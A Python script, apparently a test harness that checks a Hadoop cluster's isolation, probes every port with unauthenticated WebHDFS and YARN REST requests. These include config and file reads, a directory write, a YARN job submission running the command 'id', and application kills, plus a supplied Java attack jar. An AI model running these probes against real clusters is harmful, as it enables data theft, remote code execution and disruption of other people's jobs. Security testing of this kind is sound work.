"""
What an attacker runs where he is: every port is tried by HTTP, and with Hadoop's own clients.

    python -c PROGRAM ATTACK

ATTACK is JSON: *ports*, pairs of address and number; what is *known* (`tests.contracts.outside`);
*java*, a command, and *jars*, Hadoop's; *classes*, a jar of `Attack.java` as base64.  One line of
JSON comes back: how many tries there were, at which ports any byte was answered, and what succeeded
at each.  Reads, writes and submissions come first at all ports, kills last.

Or *requests*, each an address, a port, a path, headers, and a secret to prove or none: how each is
answered, a status of HTTP or 0.
"""

import base64
import hmac
import http.client
import json
import os
import socket
import subprocess
import sys
import tempfile
import time

from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

CONNECT_S, ANSWER_S, JAVA_S = 3, 15, 400
# 307: a NameNode says which DataNode gives the file
SUCCESS = (200, 201, 202, 307)


def http_tries(known):
    """
    Pairs of name, method, path and content: all but kills; kills.
    """
    app, user, file = known["application"], f"user.name={known['user']}", known["file"]
    job = app.replace("application", "job")
    attempt = f"attempt{job[3:]}_m_000000_0"
    content = f"/webhdfs/v1{file}?op=OPEN&{user}"
    reads = (
        "/jmx", "/conf", "/logs/", "/stacks", "/cluster", "/ws/v1/cluster/apps",
        "/ws/v1/cluster/nodes", "/ws/v1/history/mapreduce/jobs", "/ws/v1/node/containers",
        "/ws/v1/mapreduce/jobs", "/node/allContainers", f"/proxy/{app}/",
        f"/proxy/{app}/ws/v1/mapreduce/jobs", f"/webhdfs/v1/?op=LISTSTATUS&{user}", content,
        f"{content}&offset=0&namenoderpcaddress={known['namenode']}",
        f"/mapOutput?job={job}&reduce=0&map={attempt}",
    )  # fmt: skip
    new = {
        "application-id": f"{app[:-4]}9999", "application-name": "stolen",
        "application-type": "YARN", "am-container-spec": {"commands": {"command": "id"}},
        "resource": {"memory": 64, "vCores": 1},
    }  # fmt: skip
    tries = [
        *((f"read {path}", "GET", path, None) for path in reads),
        ("write", "PUT", f"/webhdfs/v1/stolen-by-http?op=MKDIRS&{user}", ""),
        ("new application", "POST", f"/ws/v1/cluster/apps/new-application?{user}", ""),
        ("submit", "POST", f"/ws/v1/cluster/apps?{user}", json.dumps(new)),
    ]
    kill = json.dumps({"state": "KILLED"})
    return tries, [("kill", "PUT", f"/ws/v1/cluster/apps/{app}/state?{user}", kill)]


def connects(place):
    """
    Whether anything takes a connection; it need not be the cluster.
    """
    try:
        socket.create_connection(place, CONNECT_S).close()
    except OSError:
        return False
    return True


def headers_of(place, known):
    """
    The secret itself, on the worker where one is: whoever shows it elsewhere is refused.
    """
    return known["header"] if place[0] == known["node"] else {}


def prove(secret, method, host, path, caller):
    """
    The header that proves that who has the secret sends this request on this connection.
    """
    moment, nonce = str(int(time.time() * 1000)), os.urandom(16).hex()
    text = "\n".join([method, host, path, "{}:{}".format(*caller), moment, nonce])
    code = hmac.new(secret.encode(), text.encode(), "sha256").hexdigest()
    return {"X-Harness-Proof": f"{moment} {nonce} {code}"}


def send(place, header, secret, request):
    """
    Status of the answer, and whether a byte of one came.
    """
    method, path, content = request
    connection = http.client.HTTPConnection(*place, timeout=ANSWER_S)
    try:
        headers = {"Content-Type": "application/json", "Accept": "*/*", **header}
        connection.connect()
        if secret:
            headers["Host"] = "{}:{}".format(*place)
            caller = connection.sock.getsockname()
            headers |= prove(secret, method, headers["Host"], path, caller)
        connection.request(method, path, content, headers)
        return connection.getresponse().status, True
    except http.client.RemoteDisconnected:
        return 0, False
    except http.client.HTTPException:  # bytes, which are no HTTP
        return 0, True
    except OSError:
        return 0, False
    finally:
        connection.close()


def by_java(attack, places, user):
    """
    What `Attack.java` prints: "PLACE yes|no WHAT" by line.
    """
    with tempfile.TemporaryDirectory() as folder:
        classes, known = Path(folder, "attack.jar"), Path(folder, "known.json")
        classes.write_bytes(base64.b64decode(attack["classes"]))
        known.write_text(json.dumps(attack["known"]))
        command = [*attack["java"], "-cp", f"{classes}:{attack['jars']}", "Attack", str(known)]
        done = subprocess.run(
            [*command, *(f"{host}:{port}" for host, port in places)],
            env={"PATH": os.environ["PATH"], "HADOOP_USER_NAME": user, "HOME": "/tmp"},
            cwd=folder, capture_output=True, text=True, timeout=JAVA_S, check=False,
        )  # fmt: skip
    if done.returncode != 0:
        sys.exit(done.stdout[-2000:] + done.stderr[-2000:])
    return [line.split(" ", 2) for line in done.stdout.splitlines()]


def main():
    """
    Try all; print what came of it.
    """
    attack = json.loads(sys.argv[1])
    if "requests" in attack:
        statuses = [
            send((address, port), headers, secret, ("GET", path, None))[0]
            for address, port, path, headers, secret in attack["requests"]
        ]
        sys.stdout.write(json.dumps(statuses) + "\n")
        return
    known = attack["known"]
    places = [(host, port) for host, port in attack["ports"]]
    names = {(host, port): f"{host}:{port}" for host, port in places}
    answered, succeeded, count = set(), {}, len(places)
    with ThreadPoolExecutor(8) as pool:
        pairs = zip(places, pool.map(connects, places), strict=True)
        taken = [place for place, is_taken in pairs if is_taken]

        def try_all(tries):
            pairs = [(place, each) for place in taken for each in tries]
            answers = pool.map(
                lambda pair: send(
                    pair[0], headers_of(pair[0], known), known["secret"], pair[1][1:]
                ),
                pairs,
            )
            for (place, (what, *_)), (status, is_answer) in zip(pairs, answers, strict=True):
                if is_answer:
                    answered.add(names[place])
                if status in SUCCESS:
                    succeeded.setdefault(names[place], []).append(f"http: {what}")
            return len(pairs)

        tries, kills = http_tries(known)
        count += try_all(tries)
        if taken:
            for place, ending, what in by_java(attack, taken, known["user"]):
                count += 1
                if ending == "yes":
                    succeeded.setdefault(place, []).append(what)
        count += try_all(kills)
    answered |= succeeded.keys()
    outcome = {"tries": count, "answered": sorted(answered), "succeeded": succeeded}
    sys.stdout.write(json.dumps(outcome) + "\n")


if __name__ == "__main__":
    main()
